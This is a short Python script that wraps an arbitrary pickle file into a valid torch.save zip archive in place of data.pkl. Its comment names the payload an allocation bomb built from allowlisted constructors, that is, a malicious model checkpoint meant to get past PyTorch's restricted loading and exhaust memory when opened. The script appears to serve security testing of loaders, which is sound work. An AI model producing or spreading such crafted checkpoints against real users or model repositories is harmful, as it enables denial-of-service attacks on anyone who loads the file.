# torch.save zip whose data.pkl is replaced by an allowlisted-constructor allocation bomb.
import io, sys, zipfile, torch, struct
src, out = sys.argv[1], sys.argv[2]
payload = open(src, 'rb').read()
buf = io.BytesIO(); torch.save({}, buf); buf.seek(0)
zin = zipfile.ZipFile(buf)
with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
    for i in zin.infolist():
        data = zin.read(i.filename)
        if i.filename.endswith('/data.pkl'): data = payload
        z.writestr(i, data)
